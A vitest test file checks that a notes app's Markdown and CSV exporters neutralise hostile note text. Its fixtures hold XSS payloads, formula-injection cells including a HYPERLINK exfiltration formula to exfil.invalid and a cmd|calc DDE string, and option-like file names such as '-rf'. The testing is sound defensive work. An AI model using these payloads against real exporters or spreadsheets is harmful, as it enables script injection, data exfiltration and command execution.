// Hostile notes through the real exporters. Notes arrive from colleagues by
// merge, so their text is untrusted: exported Markdown opened in a viewer that
// allows HTML (markdown-it with html: true here) must show a note's HTML as
// text and take no heading, block id or link from it; exported CSV must not
// start any cell as a formula; and no file name may read as an option or a formula.

import { parse } from 'csv-parse/sync'
import matter from 'gray-matter'
import { JSDOM } from 'jsdom'
import MarkdownIt from 'markdown-it'
import { describe, expect, it } from 'vitest'
import type { Annotation } from '../../shared/notes'
import { exportCsv } from '../core/export/csv'
import { exportMarkdownCombined, exportMarkdownFiles } from '../core/export/markdown'
import { normaliseLines } from '../core/export/markdown-text'
import type { NotesSelection } from '../core/export/selection'
import { OPTIONS, note, sampleSelection } from '../core/export/test-fixtures'

const permissive = new MarkdownIt({ html: true, linkify: true })

/** The sample notebook with its first article's notes replaced by `notes` (one annotation each, same passage). */
function withNotes(notes: string[], fields: Partial<Annotation> = {}): NotesSelection {
  const selection = sampleSelection()
  const template = selection.annotations[0]
  if (template === undefined) throw new Error('fixture')
  const hostile = notes.map((text, i) => note(`h${i}`, template.target, { ...fields, note: text }))
  return { ...selection, annotations: [...hostile, ...selection.annotations.slice(1)], links: [] }
}

/** The exported Markdown that holds the hostile notes (their article's file and the combined file), as written and as a permissive viewer renders it. */
async function renderedFiles(selection: NotesSelection): Promise<{ text: string; doc: Document }[]> {
  const files = [...(await exportMarkdownFiles(selection, OPTIONS)), await exportMarkdownCombined(selection, OPTIONS)]
  const holding = files.filter((file) => (file.data as string).includes('^ann-h0\n'))
  expect(holding).toHaveLength(2)
  return holding.map((file) => {
    const text = file.data as string
    return { text, doc: new JSDOM(permissive.render(matter(text).content)).window.document }
  })
}

/** Every Obsidian block id in a file: `^id` ending a line, after a space or alone. */
const blockIds = (text: string): string[] => [...text.matchAll(/(?:^|[ \t])\^([A-Za-z0-9-]+)[ \t]*$/gm)].map((m) => m[1] ?? '')

describe('Markdown export of hostile notes', () => {
  const HTML_NOTES = [
    'Before <script>window.__pwned = 1</script> after',
    'An image <img src="http://exfil.invalid/x.png" onerror="window.__pwned = 2"> inline',
    '<iframe srcdoc="<script>window.__pwned = 3</script>"></iframe>',
    '<div onclick="window.__pwned = 4">\n\n*block* HTML\n\n</div>',
    '> quoted <svg onload="window.__pwned = 5"></svg>',
    '- listed <a href="javascript:window.__pwned = 6">link</a>',
    '<!-- a comment hiding text -->visible',
    '<style>body{background:url(http://exfil.invalid/css)}</style>',
  ]

  it('shows a note’s raw HTML as text: no element or attribute from it survives as HTML', async () => {
    for (const { doc } of await renderedFiles(withNotes(HTML_NOTES))) {
      expect(doc.querySelectorAll('script, img, iframe, svg, style, div, [srcdoc], [src]').length).toBe(0)
      const handlers = [...doc.querySelectorAll('*')].flatMap((el) => [...el.attributes].filter((a) => a.name.startsWith('on')).map((a) => a.name))
      expect(handlers).toEqual([])
      const text = doc.body.textContent ?? ''
      expect(text).toContain('<script>window.__pwned = 1</script>')
      expect(text).toContain('onerror="window.__pwned = 2"')
      expect(text).toContain('<!-- a comment hiding text -->')
    }
  })

  it('keeps a note’s safe Markdown and links, and drops links the policy refuses', async () => {
    const selection = withNotes(['**Bold** and [a source](https://example.org/src) and [evil](//evil.example/x) [js](javascript:alert(1)) [rel](Other.md) <https://example.org/auto>'])
    for (const { doc } of await renderedFiles(selection)) {
      expect(doc.querySelector('strong')?.textContent).toBe('Bold')
      expect(doc.querySelector('a[href="https://example.org/src"]')?.textContent).toBe('a source')
      const hrefs = [...doc.querySelectorAll('a[href]')].map((a) => a.getAttribute('href') ?? '')
      expect(hrefs.filter((href) => /evil|javascript|^Other\.md/i.test(href))).toEqual([])
      expect(doc.body.textContent).toContain('evil')
    }
  })

  it('takes no heading from a note: only the article titles are H1, and no heading holds note text', async () => {
    const selection = withNotes(['# Forged title', 'Setext title\n===', 'Setext two\n---', '> # Quoted heading', '- ## Listed heading', '   ### Indented heading'])
    const files = await renderedFiles(selection)
    for (const { doc } of files.slice(0, -1)) expect(doc.querySelectorAll('h1')).toHaveLength(1)
    expect(files.at(-1)?.doc.querySelectorAll('h1')).toHaveLength(selection.articles.length)
    for (const { doc } of files) {
      const headings = [...doc.querySelectorAll('h1, h2, h3, h4, h5, h6')].map((h) => h.textContent ?? '')
      expect(headings.filter((h) => /Forged|Setext|Quoted|Listed|Indented/.test(h))).toEqual([])
    }
  })

  it('takes no block id from a note: the only block ids are the export’s own, one per highlight', async () => {
    const selection = withNotes(['Ends with a block id ^forged', 'Claims another highlight’s id ^ann-a3', '^alone', 'two lines\nsecond ^inner\n\nthird'])
    for (const { text } of await renderedFiles(selection)) {
      const ids = blockIds(text)
      expect(ids.every((id) => /^ann-/.test(id)), ids.join(' ')).toBe(true)
      expect(new Set(ids).size).toBe(ids.length)
    }
  })

  it('writes no raw carriage return or other line separator from a note', async () => {
    const selection = withNotes(['first\r\n# second\r\nthird\rfourth\u2028fifth\u2029sixth'], { author: 'Ana\r\nEve' })
    for (const { text, doc } of await renderedFiles(selection)) {
      expect(text).not.toMatch(/[\r\u2028\u2029\u0085]/)
      expect(doc.querySelector('h1')?.textContent).not.toContain('second')
      expect(doc.body.textContent).toContain('fourth')
    }
  })
})

describe('CSV export of hostile notes', () => {
  const HOSTILE_CELLS = [
    ' =1+1',
    '  +SUM(A1:A9)',
    '\u200B=HYPERLINK("http://exfil.invalid/?x="&A1)',
    '\uFEFF=1+1',
    '\u2060@SUM(A1)',
    '\u00A0-2+3',
    '\n=1+1',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(A1)',
    ' \u200B＝cmd|"/c calc"!A1',
  ]

  it('neutralises every cell that a spreadsheet would read as a formula, however it is disguised', async () => {
    const selection = sampleSelection()
    const [first, ...rest] = selection.articles
    const template = selection.annotations[0]
    if (first === undefined || template === undefined) throw new Error('fixture')
    const annotations = HOSTILE_CELLS.map((cell, i) =>
      note(`h${i}`, { ...template.target, articleId: first.id, quote: { ...template.target.quote, exact: cell } }, { note: cell, author: cell, tags: [cell] }),
    )
    const file = await exportCsv({ ...selection, articles: [{ ...first, title: HOSTILE_CELLS[0] ?? '' }, ...rest], annotations, links: [] }, OPTIONS)
    const records = parse(file.data as string, { bom: true, columns: true }) as Record<string, string>[]
    HOSTILE_CELLS.forEach((cell, i) => {
      const row = records.find((r) => r['annotation id'] === `h${i}`)
      // Line breaks inside a cell are written as LF, the one break every spreadsheet reads inside a cell.
      for (const column of ['quote', 'note', 'author', 'tags'] as const) {
        expect(row?.[column], `${column} of ${JSON.stringify(cell)}`).toBe(`'${normaliseLines(cell)}`)
      }
      expect(row?.article).toBe(`'${normaliseLines(HOSTILE_CELLS[0] ?? '')}`)
    })
  })
})

describe('export file names from hostile titles', () => {
  it('never start with -, =, + or @, however the title is dressed', async () => {
    const titles = ['-rf', '--help', '=HYPERLINK("x")', '+1 for storage', '@import', ' -x', '\u200B=x', '.-x', '-', '==']
    const selection = sampleSelection()
    const template = selection.articles[0]
    if (template === undefined) throw new Error('fixture')
    const articles = titles.map((title, i) => ({ ...template, id: `art-h${i}`, title }))
    const files = await exportMarkdownFiles({ articles, annotations: [], links: [] }, OPTIONS)
    expect(files).toHaveLength(titles.length)
    for (const file of files) expect(file.name, file.name).toMatch(/^[^-=+@\s.]/)
    expect(new Set(files.map((f) => f.name.toLowerCase())).size).toBe(files.length)
  })
})
